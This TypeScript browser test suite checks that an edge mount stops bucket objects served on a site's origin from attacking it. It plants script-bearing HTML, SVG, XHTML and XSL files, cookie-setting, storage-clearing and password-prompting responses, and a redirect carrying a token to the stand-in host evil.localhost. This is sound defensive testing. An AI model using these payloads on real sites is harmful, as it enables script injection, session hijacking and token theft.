/**
 * What an object of a bucket can do to the site on whose origin it is served. Each attack works through a proxy that
 * passes everything on, and fails below the edge's mount; those by a cached copy as well.
 */

import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { CHROMIUM, launch, WHY_SKIPPED } from '../../tools/chromium.ts'
import { SLOW } from './harness.ts'
import { type PlantedObject, type SharedOrigin, startSharedOrigin } from './shared-origin.ts'

const CACHED = { 'cache-control': 'max-age=600' }
/** Runs as a document, a script or a worker, and says so to whoever is there. */
const RUN =
  'try { localStorage.owned = 1 } catch {} try { parent.owned = true } catch {} globalThis.owned = true; ' +
  'if (typeof postMessage === "function" && typeof window === "undefined") postMessage("owned");'
const object = (type: string, body: string, headers: Record<string, string> = {}): PlantedObject => ({
  headers: { 'content-type': type, ...CACHED, ...headers },
  body,
})

const OBJECTS: Readonly<Record<string, PlantedObject>> = {
  '/evil.html': object('text/html', `<script>${RUN}</script>`),
  '/evil.svg': object(
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${RUN}]]></script></svg>`,
  ),
  '/evil.xhtml': object(
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${RUN}]]></script></body></html>`,
  ),
  '/evil.xml': object(
    'application/xml',
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><a/>',
  ),
  '/evil.xsl': object(
    'text/xsl',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">' +
      `<html><script><![CDATA[${RUN}]]></script></html></xsl:template></xsl:stylesheet>`,
  ),
  '/evil.js': object('text/javascript', RUN),
  '/evil.css': object('text/css', 'body { color: rgb(1, 2, 3) }'),
  '/manifest.json': object('application/manifest+json', '{"name":"evil"}'),
  '/cookie': object('text/plain', '', { 'set-cookie': 'planted=1; Path=/' }),
  '/password': { status: 401, headers: { 'www-authenticate': 'Basic realm="app"' } },
  '/clear': object('text/plain', '', { 'clear-site-data': '"storage"', 'cache-control': 'no-store' }),
  '/dictionary': object('text/plain', 'x'.repeat(1000), { 'use-as-dictionary': 'match="/*"' }),
  '/speculation': object('text/plain', 'x', { 'speculation-rules': '"/speculation-rules.json"' }),
  '/away': { status: 302, headers: { location: 'http://evil.localhost/#' } },
  '/echo': object('text/plain', 'x', { 'cache-control': 'no-store' }),
}

const PAGES = {
  '/import.js':
    'const url = new URL(location).searchParams.get("url"); try { importScripts(url) } catch (e) { postMessage(String(e)) }',
  '/speculation-rules.json': '{"prefetch":[{"urls":["/spent?by=speculation"]}]}',
}

interface Scope {
  owned?: boolean
}
const isOwned = (page: Page): Promise<boolean> =>
  page.evaluate(() => (globalThis as Scope).owned === true || localStorage.owned === '1')

/** Visits a URL that may turn out to be a download, and comes back. */
async function visit(page: Page, url: string, back: string): Promise<void> {
  await page.goto(url).catch(() => {})
  await page.goto(back)
}

/** Loads an element in the page, and waits until it has loaded or failed. */
const load = (page: Page, name: string, attributes: Record<string, string>): Promise<void> =>
  page.evaluate(
    ([tag, given]) =>
      new Promise<void>(resolve => {
        const element = Object.assign(document.createElement(tag), given)
        element.onload = element.onerror = () => resolve()
        document.head.append(element)
      }),
    [name, attributes] as const,
  )

/** What a worker says first. */
const firstMessage = (page: Page, url: string, options: WorkerOptions = {}): Promise<string> =>
  page.evaluate(
    ([address, given]) =>
      new Promise<string>(resolve => {
        const worker = new Worker(address, given)
        worker.onmessage = ({ data }) => resolve(String(data))
        worker.onerror = () => resolve('error')
      }),
    [url, options] as const,
  )

/** An attack: true if it has worked. `base` is the path below which the bucket is. */
type Attack = (page: Page, base: string, site: SharedOrigin) => Promise<boolean>

/** Those that run an object; a copy of it may be in the browser's cache already, fetched as an image. */
const RUNNING: readonly (readonly [name: string, file: string, attack: Attack])[] = [
  [
    'a script',
    'evil.js',
    async (page, base) => {
      await load(page, 'script', { src: `${base}/evil.js` })
      return isOwned(page)
    },
  ],
  [
    'a module',
    'evil.js',
    async (page, base) => {
      await load(page, 'script', { src: `${base}/evil.js`, type: 'module' })
      return isOwned(page)
    },
  ],
  ['a worker', 'evil.js', async (page, base) => (await firstMessage(page, `${base}/evil.js`)) === 'owned'],
  [
    'a module worker',
    'evil.js',
    async (page, base) => (await firstMessage(page, `${base}/evil.js`, { type: 'module' })) === 'owned',
  ],
  [
    'importScripts()',
    'evil.js',
    async (page, base) => (await firstMessage(page, `/import.js?url=${base}/evil.js`)) === 'owned',
  ],
  [
    'a style sheet',
    'evil.css',
    async (page, base) => {
      await load(page, 'link', { rel: 'stylesheet', href: `${base}/evil.css` })
      return page.evaluate(() => getComputedStyle(document.body).color === 'rgb(1, 2, 3)')
    },
  ],
  ...['html', 'svg', 'xhtml', 'xml'].flatMap((type): [string, string, Attack][] => [
    [
      `${type} as a document`,
      `evil.${type}`,
      async (page, base, { origin }) => {
        await visit(page, `${origin}${base}/evil.${type}`, `${origin}/`)
        return isOwned(page)
      },
    ],
    [
      `${type} in a frame`,
      `evil.${type}`,
      async (page, base) => {
        const download = page.waitForEvent('download')
        download.catch(() => {})
        const loaded = page.evaluate(
          url =>
            new Promise<void>(resolve => {
              const frame = Object.assign(document.createElement('iframe'), { src: url })
              frame.onload = () => resolve()
              document.body.append(frame)
            }),
          `${base}/evil.${type}`,
        )
        // A frame that becomes a download never loads.
        await Promise.race([loaded, download])
        return isOwned(page)
      },
    ],
  ]),
]

/** Those that need no running code. */
const OTHERS: readonly (readonly [name: string, attack: Attack])[] = [
  [
    'a service worker of the bucket registers',
    (page, base) =>
      page.evaluate(
        url =>
          navigator.serviceWorker.register(url).then(
            () => true,
            () => false,
          ),
        `${base}/evil.js`,
      ),
  ],
  [
    'a manifest of the bucket is the site’s',
    async (page, base) => {
      await page.evaluate(href => {
        document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href }))
      }, `${base}/manifest.json`)
      const debug = await page.context().newCDPSession(page)
      const { data } = await debug.send('Page.getAppManifest')
      return data?.includes('evil') ?? false
    },
  ],
  [
    'the site’s cookies reach the bucket',
    async (page, base, { received }) => {
      await page.evaluate(url => {
        // biome-ignore lint/suspicious/noDocumentCookie: what a site does
        document.cookie = 'session=secret'
        return fetch(url)
      }, `${base}/echo`)
      return received.at(-1)?.headers.cookie !== undefined
    },
  ],
  [
    'the bucket sets a cookie of the site',
    (page, base) =>
      page.evaluate(url => fetch(url).then(() => document.cookie.includes('planted')), `${base}/cookie`),
  ],
  [
    'the bucket asks for a password in the site’s name',
    async (page, base) => {
      const debug = await page.context().newCDPSession(page)
      let isAsked = false
      debug.on('Fetch.requestPaused', ({ requestId }) => debug.send('Fetch.continueRequest', { requestId }))
      debug.on('Fetch.authRequired', ({ requestId }) => {
        isAsked = true
        const authChallengeResponse = { response: 'CancelAuth' } as const
        return debug.send('Fetch.continueWithAuth', { requestId, authChallengeResponse })
      })
      await debug.send('Fetch.enable', { handleAuthRequests: true })
      await page.evaluate(url => fetch(url).then(response => response.text()), `${base}/password`)
      return isAsked
    },
  ],
  [
    'the bucket clears the site’s storage',
    (page, base) =>
      page.evaluate(async url => {
        localStorage.kept = '1'
        await fetch(url)
        return localStorage.kept !== '1'
      }, `${base}/clear`),
  ],
  [
    'an object is the dictionary of the site’s responses',
    async (page, base, { visited }) => {
      const before = visited.length
      await page.evaluate(async url => {
        await (await fetch(url)).text()
        // The dictionary is registered after its response has ended.
        for (let n = 0; n < 10; n++) await fetch(`/probe?${n}`)
      }, `${base}/dictionary`)
      return visited.slice(before).some(({ headers }) => headers['available-dictionary'] !== undefined)
    },
  ],
  [
    'the bucket spends a URL of the site by speculation rules',
    async (page, base, { origin, visited }) => {
      const before = visited.length
      const rules = page.waitForRequest(/speculation-rules/, { timeout: 3000 }).catch(() => null)
      await page.goto(`${origin}${base}/speculation`).catch(() => {})
      await rules
      await page.goto(`${origin}/`)
      return visited.slice(before).some(({ url = '' }) => url.includes('speculation-rules'))
    },
  ],
  [
    'a redirect of the bucket takes a fragment with a token to a stranger',
    async (page, base, { origin }) => {
      const stranger = page.waitForRequest(/evil\.localhost/, { timeout: 3000 }).catch(() => null)
      await page.goto(`${origin}${base}/away#token`).catch(() => {})
      return (await stranger) !== null
    },
  ],
  [
    'the page’s tokens and its address reach the bucket',
    async (page, base, { origin, received }) => {
      await page.goto(`${origin}/account?token=secret`)
      await page.evaluate(
        url => fetch(url, { headers: { 'x-api-key': 'secret', authorization: 'Bearer secret' } }),
        `${base}/echo`,
      )
      return JSON.stringify(received.at(-1)?.headers).includes('secret')
    },
  ],
]

if (!CHROMIUM) console.log(WHY_SKIPPED)

describe.skipIf(!CHROMIUM)('a bucket on the site’s own origin', () => {
  let browser: Browser
  let site: SharedOrigin
  let page: Page

  beforeAll(async () => {
    ;[browser, site] = await Promise.all([launch(), startSharedOrigin(OBJECTS, PAGES)])
  }, SLOW)
  beforeEach(async () => {
    page = await (await browser.newContext()).newPage()
    await page.goto(`${site.origin}/`)
  }, SLOW)
  afterEach(() => page.context().close())
  afterAll(async () => {
    await browser?.close()
    await site?.close()
  })

  describe.each(RUNNING)('%s', (_name, file, attack) => {
    test('runs through a naive proxy', { timeout: SLOW }, async () => {
      expect(await attack(page, '/naive', site)).toBe(true)
    })

    test('does not run below the mount', { timeout: SLOW }, async () => {
      expect(await attack(page, '/files', site)).toBe(false)
    })

    test('does not run out of the browser’s cache', { timeout: SLOW }, async () => {
      await load(page, 'img', { src: `/files/${file}` })
      await page.evaluate(url => fetch(url).then(response => response.text()), `/files/${file}`)
      expect(await attack(page, '/files', site)).toBe(false)
    })
  })

  describe.each(OTHERS)('%s', (_name, attack) => {
    test('through a naive proxy', { timeout: SLOW }, async () => {
      expect(await attack(page, '/naive', site)).toBe(true)
    })

    test('not below the mount', { timeout: SLOW }, async () => {
      expect(await attack(page, '/files', site)).toBe(false)
    })
  })
})
